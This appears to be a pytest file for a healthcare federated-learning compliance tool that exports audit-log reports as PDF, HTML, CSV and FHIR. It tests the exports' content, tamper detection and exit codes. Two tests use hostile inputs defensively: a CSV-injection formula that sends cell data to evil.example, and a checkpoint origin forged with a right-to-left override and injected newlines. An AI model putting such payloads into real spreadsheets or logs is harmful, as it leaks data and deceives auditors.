"""Reports in every format, from a real log: content, validity, and the export event."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from compliance_support import SteppingClock, write_processing_record
from compliance_tamper import entry, put, raw

from compliance.errors import ProcessingRecordInvalid, ProcessingRecordMissing, ReportError
from compliance.export import export_report
from compliance.log_store import read_raw_log
from compliance.node_dir import NodePaths
from compliance.period import parse_period
from compliance.report.data import SECTIONS

MARCH = parse_period("2025-03-01", "2025-03-31")
EXPORT_CLOCK_START = "2025-04-02"


def export(node: Path, fmt: str, out: Path, period=MARCH):  # type: ignore[no-untyped-def]
    from datetime import datetime, timezone

    clock = SteppingClock(datetime(2025, 4, 2, 9, 0, tzinfo=timezone.utc))
    return export_report(node, period, fmt, out, actor="officer:carol", clock=clock)  # type: ignore[arg-type]


@pytest.fixture()
def node_with_record(node: Path) -> Path:
    write_processing_record(node)
    return node


def test_pdf_is_a_real_pdf_with_every_section(node_with_record: Path, tmp_path: Path) -> None:
    from pypdf import PdfReader

    out = tmp_path / "report.pdf"
    outcome = export(node_with_record, "pdf", out)
    assert out.read_bytes().startswith(b"%PDF-")
    text = "\n".join(page.extract_text() for page in PdfReader(out).pages)
    flat = " ".join(text.split())
    for number, title in enumerate(SECTIONS, 1):
        assert f"{number}. {title}" in flat, title
    assert "VERIFIED" in flat
    assert "icu-2023" in flat and "ε" in flat  # privacy table, with real Greek letters
    assert "St Mary's Hospital NHS Trust" in flat  # Art. 30 record
    assert "Geneva" in flat  # transfers
    assert "Masked model update, 40,961 bytes (round 1)" in flat  # a disclosure, in words
    assert outcome.logged_index == 16


def test_html_is_self_contained_with_an_inline_chart(node_with_record: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.html"
    export(node_with_record, "html", out)
    html = out.read_text(encoding="utf-8")
    assert "<svg" in html and "id='privacy-chart'" in html
    for title in SECTIONS:
        assert title in html
    for external in ("<script", "src=\"http", "href=\"http", "@import", "url(http"):
        assert external not in html


def test_csv_has_one_row_per_event_in_the_period(node_with_record: Path, tmp_path: Path) -> None:
    out = tmp_path / "events.csv"
    outcome = export(node_with_record, "csv", out)
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) == outcome.events == 16
    assert [int(r["index"]) for r in rows] == list(range(16))
    charge = next(r for r in rows if r["kind"] == "dp.charge")
    assert json.loads(charge["detail"])["epsilon"] == 0.75
    assert charge["type_code"] == "110112"


def test_fhir_bundle_validates_as_r4(node_with_record: Path, tmp_path: Path) -> None:
    from fhir.resources.R4B.auditevent import AuditEvent
    from fhir.resources.R4B.bundle import Bundle

    out = tmp_path / "bundle.json"
    export(node_with_record, "fhir", out)
    document = json.loads(out.read_text(encoding="utf-8"))
    bundle = Bundle.model_validate(document)
    assert bundle.type == "collection"
    assert len(bundle.entry) == 16
    events = [AuditEvent.model_validate(e["resource"]) for e in document["entry"]]
    assert all(e.action in {"C", "R", "U", "D", "E"} for e in events)
    assert {e.outcome for e in events} == {"0", "4", "8"}
    refused = next(e for e in events if e.subtype[-1].code == "connection.refused")
    assert refused.type.code == "110114" and refused.outcomeDesc == "certificate revoked"
    assert refused.agent[0].requestor is True
    assert refused.source.observer.identifier.value == "silo:st-marys"
    fulls = {e["fullUrl"] for e in document["entry"]}
    assert len(fulls) == 16


def test_period_selects_events(node_with_record: Path, tmp_path: Path) -> None:
    # Events are 6 h apart from 2025-03-01T08:00Z: 2025-03-02 holds entries 3..6.
    outcome = export(node_with_record, "csv", tmp_path / "day.csv",
                     parse_period("2025-03-02", "2025-03-02"))
    rows = list(csv.DictReader(io.StringIO((tmp_path / "day.csv").read_text())))
    assert [int(r["index"]) for r in rows] == [3, 4, 5, 6]
    assert outcome.events == 4


def test_export_is_recorded_in_the_node_log(node_with_record: Path, tmp_path: Path) -> None:
    import hashlib

    out = tmp_path / "report.csv"
    outcome = export(node_with_record, "csv", out)
    doc = entry(NodePaths(node_with_record).audit_db, outcome.logged_index)
    assert doc["kind"] == "report.exported"
    assert doc["detail"]["sha256"] == hashlib.sha256(out.read_bytes()).hexdigest()
    assert doc["agents"] == [{"requestor": True, "who": "officer:carol"}]
    assert doc["detail"]["period_to"] == "2025-04-01T00:00:00.000000Z"


def test_tampered_log_gets_a_failed_report_and_no_export_event(
    node_with_record: Path, tmp_path: Path
) -> None:
    db = NodePaths(node_with_record).audit_db
    doc = entry(db, 6)
    doc["detail"]["epsilon"] = 0.0
    with raw(db) as conn:
        put(conn, 6, doc)
    out = tmp_path / "report.html"
    outcome = export(node_with_record, "html", out)
    assert not outcome.verification.ok and outcome.logged_index is None
    html = out.read_text(encoding="utf-8")
    assert "FAILED at entry 6" in html
    assert len(read_raw_log(db).entries) == 16  # nothing appended to the untrusted log
    # and the report says so, rather than telling its reader the export is on record
    assert "this export is NOT recorded in the node&#x27;s audit log" in html or \
        "this export is NOT recorded in the node's audit log" in html
    assert "this export is recorded" not in html


def test_missing_processing_record(node: Path, tmp_path: Path) -> None:
    with pytest.raises(ProcessingRecordMissing, match="processing-record.yaml"):
        export(node, "html", tmp_path / "r.html")
    assert not (tmp_path / "r.html").exists()


@pytest.mark.parametrize(
    ("mutation", "message"),
    [
        (lambda t: t + "lawful_basis: consent\n", "lawful_basis: Extra inputs are not permitted"),
        (lambda t: t.replace("retention: Audit records 6 years; model updates are not "
                             "retained by the silo\n", ""), "retention: Field required"),
        (lambda t: t.replace("data_categories: [vital signs, laboratory results, age band]",
                             "data_categories: []"), "data_categories"),
        (lambda t: t.replace("    safeguards: EU adequacy decision for Switzerland\n", ""),
         "transfers.0.safeguards: Field required"),
        (lambda t: "controller: [unclosed\n", "not valid YAML"),
        (lambda t: "- just\n- a list\n", "mapping"),
    ],
)
def test_invalid_processing_record(node: Path, tmp_path: Path, mutation, message) -> None:  # type: ignore[no-untyped-def]
    from compliance_support import PROCESSING_RECORD

    write_processing_record(node, mutation(PROCESSING_RECORD))
    with pytest.raises(ProcessingRecordInvalid) as caught:
        export(node, "html", tmp_path / "r.html")
    assert message in str(caught.value)
    assert "processing-record.yaml" in str(caught.value)


def test_bad_period_and_output(node_with_record: Path, tmp_path: Path) -> None:
    with pytest.raises(ReportError, match="--to"):
        parse_period("2025-03-31", "2025-03-01")
    with pytest.raises(ReportError, match="--from"):
        parse_period("March", "2025-03-01")
    with pytest.raises(ReportError, match="does not exist"):
        export(node_with_record, "csv", tmp_path / "missing-dir" / "r.csv")


def _first_page(pdf: Path) -> str:
    from pypdf import PdfReader

    return " ".join(PdfReader(pdf).pages[0].extract_text().split())


def test_first_page_is_an_executive_summary_with_the_verdict(node: Path, tmp_path: Path) -> None:
    """A DPO reads page 1: the verdict in the title, then plans, datasets, ε, disclosures and
    refusals in plain words, the person who exported it and a sign-off block. Refusal reasons
    come from the codes the log holds (silos log a code, never words)."""
    from compliance_support import open_log

    plan = "ab" * 32
    with open_log(node, SteppingClock()) as log:
        log.record("plan.approved", actor="person:Dr. A. Jones", entities={"plan": plan},
                   detail={"plan_hash": plan, "name": "heart-lr", "purpose": "Cardiac risk research",
                           "cohort": [{"silo": "st-marys", "key_fingerprint": "ee" * 32}],
                           "epsilon": 3.0, "delta": 1e-5, "expires_at": "2025-04-01T00:00:00+00:00"})
        log.record("dataset.registered", actor="person:Ian T. Admin", entities={"dataset": "heart"},
                   detail={"records": 303, "policy_sha256": "cd" * 32, "dropped": ["ssn"], "generalised": ["zip"]})
        log.record("round.refused", actor="silo:st-marys", outcome="minor_failure",
                   detail={"plan_hash": plan, "round": 9, "code": "BUDGET_EXHAUSTED"})
    write_processing_record(node)
    out = tmp_path / "report.pdf"
    export(node, "pdf", out)
    page = _first_page(out)
    assert page.index("VERIFIED — HealthFed audit report — silo:st-marys") < page.index("1. Executive summary")
    assert "2. Scope and period" not in page or page.index("Sign-off") < page.index("2. Scope and period")
    for expected in ("heart-lr (approved by person:Dr. A. Jones, ε 3, δ 1e-05)",
                     "heart (registered by person:Ian T. Admin)",
                     "icu-2023: ε 2.25 spent of 8, 5.75 remaining",
                     "3 payloads", "BUDGET_EXHAUSTED ×1", "Report exported by officer:carol", "Sign-off"):
        assert expected in page, expected
    whole = " ".join(" ".join(p.extract_text() for p in __import__("pypdf").PdfReader(out).pages).split())
    assert "Merkle" in whole and "Dropped" in whole and "ssn" in whole
    assert "{'" not in whole and "{\"" not in whole  # no Python dict or JSON text for people


def test_a_failed_log_says_failed_in_the_title(node: Path, tmp_path: Path) -> None:
    db = NodePaths(node).audit_db
    doc = entry(db, 7)
    doc["detail"]["epsilon"] = 0.01
    with raw(db) as conn:
        put(conn, 7, doc)
    write_processing_record(node)
    out = tmp_path / "report.pdf"
    export(node, "pdf", out)
    page = _first_page(out)
    assert page.startswith("FAILED — HealthFed audit report") or "FAILED — HealthFed audit report — silo:st-marys" in page
    assert "does not verify from entry 7" in page
    html = tmp_path / "report.html"
    export(node, "html", html)
    assert "<title>FAILED — HealthFed audit report" in html.read_text(encoding="utf-8")


def _pdf_text(pdf: Path) -> list[str]:
    from pypdf import PdfReader

    return [" ".join(page.extract_text().split()) for page in PdfReader(pdf).pages]


def test_accounting_of_disclosures_ties_each_release_to_its_epsilon(node: Path, tmp_path: Path) -> None:
    """HIPAA §164.528: date, recipient, description, purpose — and the ε of the round; an
    evaluation is never shown as covered by a DP charge, even when its round number matches."""
    from compliance_support import open_log

    plan = "ab" * 32
    with open_log(node, SteppingClock()) as log:
        log.record("plan.approved", actor="person:Dr. A. Jones", entities={"plan": plan},
                   detail={"plan_hash": plan, "name": "sepsis-mlp", "purpose": "Sepsis early warning",
                           "epsilon": 8.0, "delta": 1e-5})
        log.record("payload.released", actor="silo:st-marys", entities={"plan": plan},
                   detail={"plan_hash": plan, "round": 3, "kind": "EvaluateResult", "bytes": 412,
                           "sha256": "ef" * 32, "recipient": "aggregator"})
    write_processing_record(node)
    out = tmp_path / "report.pdf"
    export(node, "pdf", out)
    flat = " ".join(_pdf_text(out))
    section = flat[flat.index("3. HIPAA accounting of disclosures"):flat.index("4. Privacy budget by dataset")]
    for expected in ("45 CFR §164.528", "Date (UTC) Recipient What was disclosed Purpose Privacy cost",
                     "2025-03-03 02:00:00 aggregator Masked model update, 40,961 bytes (round 1)",
                     "sepsis-mlp: Sepsis early warning",
                     "ε 0.75 (δ 1e-06) charged to icu-2023 for this round; 0.75 of 8 spent after it",
                     "ε 0.75 (δ 1e-06) charged to icu-2023 for this round; 2.25 of 8 spent after it",
                     "Evaluation result: allow-listed metrics"):
        assert expected in section, expected
    evaluation = section[section.index("Evaluation result"):]
    assert evaluation.index("No ε: evaluation metrics are released without differential privacy") < 200
    assert "masked_update" not in section and "SecAggReply" not in section  # words, not class names


def test_dpia_annex_and_the_evidence_appendix(node_with_record: Path, tmp_path: Path) -> None:
    """The annex (threat model, privacy statement, residual risks, sign-off) and the appendix
    (proofs, signatures) each start on their own page; hex evidence is not on page 1."""
    out = tmp_path / "report.pdf"
    export(node_with_record, "pdf", out)
    pages = _pdf_text(out)
    annex = next(i for i, p in enumerate(pages) if "11. Annex: data protection impact assessment" in p)
    appendix = next(i for i, p in enumerate(pages) if "12. Appendix: integrity evidence" in p)
    assert annex < appendix
    assert pages[annex].split("page ", 1)[1].split(" ", 1)[1].startswith("11. Annex")
    assert pages[appendix].split("page ", 1)[1].split(" ", 1)[1].startswith("12. Appendix")
    annex_text = " ".join(pages[annex:appendix])
    for expected in ("Art. 35(7)", "Threat model summary", "Sum only", "Residual risks",
                     "A cohort of fakes", "Poisoning", "Not covered by ε", "Sign-off",
                     "Data protection officer", "risks accepted"):
        assert expected in annex_text, expected
    from compliance.log_store import read_raw_log

    # the checkpoint the report was made against (the export then appended one more)
    root = read_raw_log(NodePaths(node_with_record).audit_db).checkpoints[-2].root_hash
    assert isinstance(root, str)
    compact = ["".join(p.split()) for p in pages]  # hex wraps across lines
    assert root not in compact[0]
    assert any(root in p for p in compact[appendix:])


def test_privacy_statement_per_plan_in_the_annex(node: Path, tmp_path: Path) -> None:
    from compliance_support import open_log

    plan = "cd" * 32
    with open_log(node, SteppingClock()) as log:
        log.record("plan.approved", actor="person:Dr. A. Jones", entities={"plan": plan},
                   detail={"plan_hash": plan, "name": "heart-lr", "purpose": "Cardiac risk",
                           "epsilon": 3.0, "delta": 1e-5})
    write_processing_record(node)
    out = tmp_path / "report.pdf"
    export(node, "pdf", out)
    flat = " ".join(_pdf_text(out))
    assert ("Privacy statement: heart-lr Record-level differential privacy, ε 3, δ 1e-05 per "
            "hospital dataset") in flat


def test_aggregator_report_aggregates_the_silos_declared_spending(tmp_path: Path) -> None:
    """The aggregator charges no ledger; its report states what each silo declared (from the
    aggregator's own state store, written by the real StateStore) instead of 'No dp.charge'."""
    from compliance_support import open_log

    from aggregator.state_store import StateStore

    node = tmp_path / "aggregator-state"
    plan = "ab" * 32
    with open_log(node, SteppingClock(), origin="aggregator") as log:
        log.record("plan.approved", actor="aggregator", entities={"plan": plan},
                   detail={"plan_hash": plan, "name": "heart-lr", "purpose": "Cardiac risk"})
        log.record("round.completed", actor="aggregator",
                   detail={"plan_hash": plan, "round": 2, "silos": ["riverside", "st-marys"]})
    store = StateStore(node / "aggregator.sqlite3")
    store.record_declaration(plan, 1, "st-marys", {"epsilon_spent": 0.75, "epsilon_remaining": 2.25, "delta": 1e-5})
    store.record_declaration(plan, 2, "st-marys", {"epsilon_spent": 1.5, "epsilon_remaining": 1.5, "delta": 1e-5})
    store.record_declaration(plan, 2, "riverside", {"epsilon_spent": 1.25, "epsilon_remaining": 1.75, "delta": 1e-5})
    store.close()
    write_processing_record(node)
    out = tmp_path / "report.pdf"
    export(node, "pdf", out)
    pages = _pdf_text(out)
    assert ("Declared by the silos (the aggregator keeps no ledger): riverside: ε 1.25 spent, 1.75 "
            "remaining (heart-lr, after round 2); st-marys: ε 1.5 spent, 1.5 remaining (heart-lr, "
            "after round 2)") in pages[0]
    flat = " ".join(pages)
    assert "No dp.charge events" not in flat
    assert "Spending declared by the silos" in flat and "heart-lr st-marys 2 1.5 1.5 1e-05" in flat


def test_pages_render_to_png(node_with_record: Path, tmp_path: Path) -> None:
    """Page 1 and the annex's first page rendered by poppler (pdftoppm): real images, not
    blank (the rendering was also looked at by eye when the layout was made)."""
    import os
    import shutil
    import subprocess

    if shutil.which("pdftoppm") is None:
        if os.environ.get("CI") == "true":
            pytest.fail("pdftoppm (poppler-utils) is required under CI; .ci/run installs it")
        pytest.skip("pdftoppm not installed (apt-get install poppler-utils)")
    from PIL import Image

    out = tmp_path / "report.pdf"
    export(node_with_record, "pdf", out)
    pages = _pdf_text(out)
    annex = next(i for i, p in enumerate(pages) if "11. Annex" in p) + 1
    for number in (1, annex):
        prefix = tmp_path / f"page{number}"
        subprocess.run(["pdftoppm", "-r", "60", "-png", "-f", str(number), "-l", str(number),
                        "-singlefile", str(out), str(prefix)], check=True, timeout=120)
        image = Image.open(f"{prefix}.png").convert("L")
        assert image.size[0] > 400 and image.size[1] > 600
        dark = sum(1 for value in image.getdata() if value < 128)
        assert dark > 0.01 * image.size[0] * image.size[1], f"page {number} looks blank"


def test_a_coordinators_long_purpose_and_hundreds_of_plans_still_give_a_whole_pdf(
        node_with_record: Path, tmp_path: Path) -> None:
    """The coordinator writes a plan's purpose (up to 2,000 characters) and the silo records it on
    receipt, approved or not; a summary cell lists every plan. Table rows taller than a page made
    reportlab refuse the whole PDF (LayoutError), for every later period: rows now split."""
    from pypdf import PdfReader

    from compliance_support import open_log
    from silo_node.approvals import PlanApprovals
    from silo_node.datasets.policy import DatasetPolicy
    from silo_node.policy import ApprovalPolicy
    from silo_node.storage import open_silo_db
    from tests.silo_data.exports import HEART_POLICY
    from tests.silo_data.plans import make_plan

    from datetime import datetime, timedelta, timezone

    clock = SteppingClock(datetime(2025, 3, 20, 9, 0, tzinfo=timezone.utc), step=timedelta(minutes=1))
    purpose = " ".join(f"aim{n} risk." for n in range(162))  # 1,995 characters (the schema allows 2,000)
    policy = DatasetPolicy.from_document(HEART_POLICY)
    with open_log(node_with_record, clock) as log:
        connection = open_silo_db(node_with_record / "silo.sqlite3")
        approvals = PlanApprovals(connection, ApprovalPolicy(), audit=log)
        approvals.consider(make_plan(name="long-purpose", purpose=purpose), policy, now=clock.now)
        for number in range(250):
            approvals.consider(make_plan(name=f"heart-lr-v{number}"), policy, now=clock.now)
        connection.close()
    out = tmp_path / "report.pdf"
    outcome = export(node_with_record, "pdf", out)
    assert outcome.verification.ok and outcome.logged_index is not None
    flat = " ".join(" ".join(page.extract_text() for page in PdfReader(out).pages).split())
    assert "aim0 risk." in flat and "aim161 risk." in flat  # all of it is shown
    assert "heart-lr-v249" in flat


def test_an_export_from_a_copy_without_the_signing_key_writes_nothing_and_makes_no_key(
        node_with_record: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Evidence handed over as a copy of the node folder has the public key but not the signing
    key: the export could not be recorded, so it is refused before a report is written, and no
    new key is created in the evidence folder (opening the log to record would make one)."""
    import shutil

    from compliance.cli.main import main

    copy = tmp_path / "evidence"
    shutil.copytree(node_with_record, copy)
    NodePaths(copy).signing_key.unlink()
    out = tmp_path / "report.html"
    code = main(["export", "--node", str(copy), "--from", "2025-03-01", "--to", "2025-03-31",
                 "--format", "html", "--out", str(out), "--by", "Olga Officer"])
    assert code == 3 and "EXPORT_NOT_RECORDABLE" in capsys.readouterr().err
    assert not out.exists() and not NodePaths(copy).signing_key.exists()
    assert main(["verify", "--node", str(copy), "--no-record"]) == 0  # a copy is still checked read-only


def test_an_unexpected_failure_exits_5_not_1_which_means_tampering(
        node_with_record: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Exit 1 is the verdict "the log FAILED verification"; a defect in rendering must not read
    as one to a monitoring script. The renderer is made to fail as reportlab did (LayoutError)."""
    import compliance.report.pdf
    from compliance.cli.main import main

    def broken(_data: object) -> bytes:
        raise RuntimeError("Flowable too large on page 4")

    monkeypatch.setattr(compliance.report.pdf, "render_pdf", broken)
    code = main(["export", "--node", str(node_with_record), "--from", "2025-03-01", "--to", "2025-03-31",
                 "--format", "pdf", "--out", str(tmp_path / "r.pdf"), "--by", "Olga Officer"])
    err = capsys.readouterr().err
    assert code == 5 and "COMPLIANCE_INTERNAL_ERROR" in err and "not a verdict on the audit log" in err, err
    assert not (tmp_path / "r.pdf").exists()


def test_a_coordinator_cannot_write_the_explanation_of_its_own_refused_checkpoint(
        node_with_record: Path, tmp_path: Path) -> None:
    """A refused aggregator checkpoint is the hospital's alarm (checkpoint.rejected, a serious
    failure). The coordinator chose the acknowledgment entry the refusal quotes: its text is
    quoted, cut to 40 characters and stripped of control characters, and the alarm is on the
    report's first page, not only in section 8."""
    import unicodedata
    from datetime import datetime, timezone

    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from compliance.checkpoints import sign_checkpoint
    from compliance.merkle import MerkleTree
    from compliance_support import open_log
    from healthfed_common.canonical_json import canonical_json
    from healthfed_common.wire.messages import AggregatorCheckpoint
    from silo_node.aggregator_witness import AggregatorLogWitness

    story = ("checkpoint.witnessed\u202e, index 0).\nRESOLVED: clock skew, ACCEPTED on retry; no action "
             "needed (")
    ack = canonical_json({"v": 1, "index": 0, "kind": story, "type": {}, "subtype": [], "action": "C",
                          "recorded": "2025-03-01T08:00:00.000000Z", "outcome": "0", "agents": [],
                          "source": "aggregator", "entities": {}, "detail": {}})
    tree = MerkleTree()
    tree.append_entry(ack)
    theirs = sign_checkpoint(Ed25519PrivateKey.generate(), "aggregator", 1, tree.root(),
                             datetime(2025, 3, 2, tzinfo=timezone.utc))
    clock = SteppingClock(datetime(2025, 3, 20, 9, 0, tzinfo=timezone.utc))
    with open_log(node_with_record, clock) as log:
        witness = AggregatorLogWitness(node_with_record / "audit" / "witness.sqlite3", log, "silo:st-marys")
        reason = witness.accept(AggregatorCheckpoint(theirs.to_dict(), (), ack, 0, ()), log.sign_checkpoint())
        forged = sign_checkpoint(Ed25519PrivateKey.generate(), "aggregator\u202e\nVERIFIED", 1, tree.root(),
                                 datetime(2025, 3, 2, tzinfo=timezone.utc))
        assert witness.accept(AggregatorCheckpoint(forged.to_dict(), (), ack, 0, ()), log.sign_checkpoint())
    assert reason is not None
    other_origin = [json.loads(e[1])["detail"]["origin"] for e in read_raw_log(NodePaths(node_with_record).audit_db).entries
                    if b"checkpoint.rejected" in e[1]][-1]
    assert other_origin == "aggregator??VERIFIED", other_origin  # the offered origin, defanged
    recorded = [e for e in read_raw_log(NodePaths(node_with_record).audit_db).entries
                if b"checkpoint.rejected" in e[1]]
    stored = json.loads(recorded[-2][1])["detail"]["reason"]
    assert "ACCEPTED" not in stored and "no action" not in stored, stored  # cut to 40 characters
    assert "(kind 'checkpoint.witnessed\\u202e, index 0).\\nRESOLVE'" in stored, stored  # quoted, escaped
    assert not any(unicodedata.category(c).startswith("C") for c in stored), stored
    out = tmp_path / "report.html"
    export(node_with_record, "html", out)
    html = out.read_text(encoding="utf-8")
    assert "Security events and failures in period" in html
    assert "checkpoint.rejected (serious failure) ×2" in html


def test_a_charge_the_ledger_refused_is_not_counted_as_spent_or_charged(tmp_path: Path) -> None:
    """The coordinator can make a silo's ledger refuse charges (rounds beyond the budget). The
    refused charge is in the log as dp.charge with a failure outcome; the privacy table counted it
    among the period's charges. It is a refusal, listed as such, and spends nothing."""
    from datetime import datetime, timedelta, timezone

    from compliance_support import open_log
    from healthfed_common.dp.accounting import SamplingSchedule, round_event
    from silo_node.privacy_ledger import BudgetExceeded, PrivacyLedger
    from silo_node.storage import open_silo_db

    node = tmp_path / "node"
    event = round_event(SamplingSchedule(199, 16, 1), 2.0)  # about 1.8, 2.4, 3.6 after 1, 2, 5 rounds
    with open_log(node, SteppingClock(datetime(2025, 3, 2, 9, 0, tzinfo=timezone.utc), step=timedelta(minutes=5))) as log:
        ledger = PrivacyLedger(open_silo_db(node / "silo.sqlite3"), audit=log, actor="silo:st-marys")
        ledger.set_budget("icu-2023", 3.0, 1e-5, actor="person:Dr. Steward")
        charged = 0
        for round_ in range(1, 40):
            try:
                ledger.charge("icu-2023", "ab" * 32, round_, event)
                charged += 1
            except BudgetExceeded:
                break
        spent = ledger.spent("icu-2023")[0]
    assert 0 < charged < 39
    write_processing_record(node)
    html = tmp_path / "report.html"
    export(node, "html", html)
    text = html.read_text(encoding="utf-8")
    row = text[text.index("<td>icu-2023</td>"):]
    cells = re.findall(r"<td[^>]*>([^<]*)</td>", row[:row.index("</tr>")])
    assert cells[-1] == str(charged) == "3", cells  # charges in period: the ones that were made
    assert cells[1] == f"{spent:.4g}", cells
    assert "dp.charge (minor failure) ×1" in text  # the refusal is on the first page


def test_a_csv_cell_a_spreadsheet_would_run_is_written_as_text(tmp_path: Path) -> None:
    """The aggregator's log is the coordinator's own: an actor written as a formula must open as
    text in the hospital DPO's spreadsheet (OWASP CSV injection)."""
    from compliance_support import open_log
    from compliance.node_dir import AGGREGATOR_ORIGIN

    node = tmp_path / "aggregator"
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Dr. A. Jones")'
    with open_log(node, SteppingClock(), origin=AGGREGATOR_ORIGIN) as log:
        log.record("plan.started", actor=formula, detail={"plan_hash": "ab" * 32, "name": "heart-lr"})
        log.record("connection.refused", actor="@SUM(1+1)", outcome="minor_failure",
                   detail={"code": "NOT_ENROLLED", "reason": "-2+3"})
        log.record("configuration.changed", actor="person:C. Lee", detail={"setting": "x"})
    write_processing_record(node)
    out = tmp_path / "events.csv"
    export(node, "csv", out)
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert [r["actor"] for r in rows] == ["'" + formula, "'@SUM(1+1)", "person:C. Lee"]
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
